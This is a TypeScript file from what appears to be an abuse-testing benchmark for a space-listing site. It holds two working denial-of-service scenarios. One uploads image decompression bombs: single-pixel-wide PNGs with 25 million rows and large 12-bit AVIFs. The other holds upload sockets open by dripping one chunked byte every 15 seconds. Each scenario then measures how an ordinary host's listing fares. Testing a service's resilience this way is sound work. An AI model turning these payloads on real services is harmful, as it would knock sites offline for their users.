/* Attacks by hosts through uploads. */
import { setTimeout as sleep } from "node:timers/promises";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import type { Person, Scenario, Site } from "#bench/abuse/site.ts";
import { closeAll, openSockets } from "#bench/abuse/sockets.ts";

const week = "Monday Tuesday Wednesday Thursday Friday Saturday Sunday".split(" ");

const fields: [string, string][] = [
  ["title", "Brick loft by the mill"],
  ["description", "North light and a freight lift."],
  ["fullDescription", "Two floors of brick and daylight."],
  ...(Object.entries({ price: "12000", hourlyRate: "1500", capacity: "40" }) as [string, string][]),
  ["location", "12, Mill Lane, Bandra West"],
  ...(Object.entries({ state: "Maharashtra", city: "Mumbai" }) as [string, string][]),
  ["categories", JSON.stringify({ title: "Photo Studio", slug: "photo-studio" })],
  ["amenities", "Parking"],
  ...week.map((day): [string, string] => ["availableTimeSlots", `12:00 AM - 12:00 AM, ${day}`]),
];

const listingForm = async (site: Site, photos: File[]): Promise<FormData> => {
  const { body } =
    await site.ask<{ state: string; cities: { city: string; localAreas: { name: string }[] }[] }[]>(
      "GET /places",
    );
  const mumbai = body.flatMap(({ cities }) => cities).find(({ city }) => city === "Mumbai");
  const form = new FormData();
  for (const [name, value] of fields) form.append(name, value);
  form.append("localArea", mumbai?.localAreas[0]?.name ?? "Bandra");
  for (const photo of photos) form.append("images", photo);
  return form;
};

const fileOf = (bytes: Uint8Array, name: string, type: string) =>
  new File([new Uint8Array(bytes)], name, { type });

/** Returns a photo near the size limit. It shows noise, which does not compress. */
const fullPhoto = async (seed: number): Promise<File> => {
  const [width, height] = [1_450, 1_100];
  const pixels = Buffer.alloc(width * height * 3);
  let x = seed + 1;
  for (let i = 0; i < pixels.length; i++) {
    x = (x * 1103515245 + 12345) % 2147483648;
    pixels[i] = x >> 16;
  }
  const jpeg = sharp(pixels, { raw: { width, height, channels: 3 } }).jpeg({ quality: 80 });
  return fileOf(await jpeg.toBuffer(), `photo-${seed}.jpg`, "image/jpeg");
};

const pngChunk = (type: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};

/** Returns a valid PNG that is one pixel wide: about 50 KB for 25 million rows. */
const thinPng = (height: number, shade: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(height, 4);
  // Eight bits per pixel, greyscale.
  header[8] = 8;
  const rows = Buffer.alloc(height * 2);
  rows[1] = shade;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
    pngChunk("IEND", new Uint8Array()),
  ]);
};

const deepAvif = (): Promise<Buffer> =>
  sharp({ create: { width: 5_000, height: 5_000, channels: 4, background: "#a1b2c380" } })
    .avif({ bitdepth: 12, quality: 30, effort: 0 })
    .toBuffer();

const send = async (site: Site, as: Person, photos: File[], limitMs = 120_000) =>
  site.ask("POST /locations/list", { as, body: await listingForm(site, photos), limitMs });

/** Lists a space with ordinary photos, as a host who takes no part in the attack. Returns a note
 *  with the time that this took. */
const ordinary = async (site: Site, as: Person | undefined): Promise<string> => {
  if (!as) return "no other host was signed in";
  const photos = await Promise.all([fullPhoto(91), fullPhoto(92)]);
  const { status, ms } = await send(site, as, photos);
  return `another host's listing: ${status} after ${(ms / 1_000).toFixed(1)} s`;
};

export const hostilePictures: Scenario = {
  name: "hostile-pictures",
  what: "four AVIFs of 5000x5000 with 12 bits and alpha, and two listings with five PNGs of 1x25,000,000 each",
  attack: async (site) => {
    const [first, second, third] = site.people;
    if (!first || !second) throw new Error("Nobody is signed in.");
    const avif = fileOf(await deepAvif(), "deep.avif", "image/avif");
    const thin = [1, 2, 3, 4, 5].map((n) =>
      fileOf(thinPng(25_000_000, n), `thin-${n}.png`, "image/png"),
    );
    const attacks = [
      ...Array.from({ length: 4 }, () => send(site, first, [avif])),
      send(site, first, thin),
      send(site, second, thin),
    ];
    await sleep(500);
    const note = await ordinary(site, third);
    const answers = await Promise.all(attacks);
    await sleep(5_000);
    const told = answers.map(({ status, ms }) => `${status} after ${(ms / 1_000).toFixed(1)} s`);
    return { lost: [], notes: [note, `the hostile photos: ${told.join(", ")}`] };
  },
};

/** Encodes a form as it is sent over HTTP. */
const wire = async (form: FormData) => {
  const response = new Response(form);
  return {
    type: response.headers.get("Content-Type") ?? "",
    bytes: Buffer.from(await response.arrayBuffer()),
  };
};

export const slowUploads: Scenario = {
  name: "slow-uploads",
  what: "two chunked listings with eight photos near the size limit each, then one byte every 15 s",
  attack: async (site) => {
    const [host, other] = site.people;
    const photos = await Promise.all(Array.from({ length: 8 }, (_, n) => fullPhoto(n)));
    const { type, bytes } = await wire(await listingForm(site, photos));
    const sockets = await openSockets(site.port, 2);
    const most = bytes.subarray(0, bytes.length - 200);
    for (const socket of sockets) {
      socket.write(
        `POST /api/locations/list HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${host?.token}\r\n` +
          `Content-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n${most.length.toString(16)}\r\n`,
      );
      socket.write(most);
      socket.write("\r\n");
    }
    const dripping = setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write("1\r\n-\r\n");
    }, 15_000);
    await sleep(2_000);
    const note = await ordinary(site, other);
    await sleep(15_000);
    clearInterval(dripping);
    closeAll(sockets);
    return { lost: [], notes: [note] };
  },
};
